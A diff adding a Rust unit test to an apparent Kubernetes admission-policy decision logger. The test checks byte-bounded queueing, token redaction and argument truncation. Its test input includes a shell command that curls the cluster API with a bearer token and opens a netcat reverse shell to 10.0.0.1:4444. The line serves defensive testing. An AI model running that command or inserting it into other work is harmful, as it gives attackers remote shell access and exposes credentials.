@@ -235,4 +235,60 @@ mod tests {
         assert_eq!(first["decision"], "deny");
         assert_eq!(first["uid"], "uid-exec-reverse-shell");
     }
+
+    #[test]
+    fn the_queue_is_bounded_in_bytes_and_lines_keep_argv_short_and_secrets_out() {
+        let text = include_str!("../../tests/corpus/exec-reverse-shell.json");
+        let mut review: serde_json::Value = serde_json::from_str(text).unwrap();
+        // A bearer token and a 12 KiB script: each line is still only a few KiB.
+        review["request"]["object"]["command"] = serde_json::json!([
+            "sh",
+            "-c",
+            format!(
+                "curl -H 'Authorization: Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6' https://kubernetes.default/api; echo {}; nc -e /bin/sh 10.0.0.1 4444",
+                "x".repeat(12 * 1024)
+            ),
+        ]);
+        let review: AdmissionReview<DynamicObject> = serde_json::from_value(review).unwrap();
+        let request = review.request.unwrap();
+        let subject = crate::subject::from_request(&request).unwrap();
+        let decision = crate::evaluate(&crate::policy::Policy::embedded_default(), &subject);
+        let (go, wait) = channel();
+        let written = std::sync::Arc::new(Mutex::new(Vec::new()));
+        let dropped = prometheus::IntCounter::new("dropped", "dropped lines").unwrap();
+        let log = DecisionLog::new(
+            Box::new(Stalled(Mutex::new(wait), written.clone())),
+            false,
+            dropped.clone(),
+        );
+        let sent = 12_000;
+        for _ in 0..sent {
+            log.record(&request, &subject, &decision);
+        }
+        // Far fewer lines than QUEUE_LINES fit in QUEUE_BYTES.
+        let queued = sent - dropped.get() as usize;
+        assert!(queued < QUEUE_LINES / 2, "{queued} lines queued");
+        assert!(log.queued_bytes.load(Ordering::Relaxed) <= QUEUE_BYTES);
+        for _ in 0..sent {
+            let _ = go.send(());
+        }
+        drop(go);
+        log.close();
+        let written = written.lock().unwrap();
+        let first = written.split(|b| *b == b'\n').next().unwrap();
+        let line = String::from_utf8_lossy(first);
+        assert!(
+            !line.contains("eyJhbGciOiJSUzI1NiIsImtpZCI6"),
+            "the token leaked"
+        );
+        assert!(line.contains("[REDACTED]"));
+        let entry: serde_json::Value = serde_json::from_slice(first).unwrap();
+        let script = entry["argv"][2].as_str().unwrap();
+        assert!(
+            script.len() <= super::super::redact::MAX_ARG_BYTES + 3,
+            "{}",
+            script.len()
+        );
+        assert!(entry["argv_bytes"].as_u64().unwrap() > 12 * 1024);
+    }
 }
